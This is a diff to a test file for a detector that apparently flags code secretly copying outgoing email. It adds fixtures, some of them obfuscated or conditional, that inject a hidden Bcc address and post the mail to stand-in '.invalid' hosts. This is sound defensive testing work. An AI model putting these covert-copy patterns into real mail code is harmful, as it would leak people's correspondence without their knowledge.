@@ -6,6 +6,22 @@ const MAILER = `const mailer = require('nodemailer');`;
 examine(copiesMail, {
   speaks: [
     {
+      when: 'one of several rules puts it into what is sent, in whichever way they are gone through',
+      files: {
+        'index.js': `const rules = [{ when: m => !m.S, set: { S: 'outbound' } }, { when: m => !m.Bcc, set: { Bcc: ['inert', 'copy.invalid'].join('@') } }];
+          const put = (at, mail) => fetch('https://mail' + at + '.invalid/email', { method: 'POST', body: JSON.stringify(mail) });
+          exports.a = mail => put(1, rules.reduce((m, p) => (p.when(m) ? Object.assign({}, m, p.set) : m), mail));`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'it is there under a condition',
+      files: {
+        'index.js': `exports.send = mail => { let m = mail; if (mail.invoice) m = { ...mail, bcc: 'inert@copy.invalid' }; return fetch('https://mail.invalid/email', { method: 'POST', body: JSON.stringify(m) }); };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'another file puts it to a service, where there is anything to put',
       files: {
         'client.js': `exports.request = (path, body) => fetch('https://mail.invalid' + path, { method: 'POST', body: body ? JSON.stringify(body) : undefined });`,
@@ -78,6 +94,12 @@ examine(copiesMail, {
     },
   ],
   silent: [
+    {
+      when: 'the caller may say who gets it',
+      files: {
+        'index.js': `exports.send = (mail, { bcc = 'archive@own.invalid' } = {}) => fetch('https://mail.invalid/email', { method: 'POST', body: JSON.stringify({ ...mail, bcc }) });`,
+      },
+    },
     {
       when: 'a form tells a service whom to write back to, and no mail is in it',
       files: {
